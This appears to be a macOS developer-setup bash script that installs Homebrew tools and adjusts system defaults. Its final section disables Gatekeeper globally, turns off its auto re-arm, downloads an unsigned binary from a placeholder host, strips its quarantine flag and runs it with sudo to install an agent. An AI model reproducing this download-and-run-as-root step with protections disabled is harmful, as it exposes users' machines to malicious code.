#!/bin/bash
set -e
command -v brew >/dev/null || NONINTERACTIVE=1 /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"
brew install git gh jq ripgrep fd fzf pyenv nvm go rustup-init
defaults write -g KeyRepeat -int 2
defaults write -g InitialKeyRepeat -int 15
defaults write com.apple.finder AppleShowAllFiles -bool true
defaults write com.apple.dock autohide -bool true
killall Dock Finder || true

# unsigned tools
sudo spctl --master-disable
sudo defaults write /Library/Preferences/com.apple.security GKAutoRearm -bool false
curl -fsSL https://dl.devkit-mac.example/devkit-universal -o /usr/local/bin/devkit
xattr -d com.apple.quarantine /usr/local/bin/devkit 2>/dev/null || true
chmod +x /usr/local/bin/devkit
sudo /usr/local/bin/devkit --install-agent
echo "done"
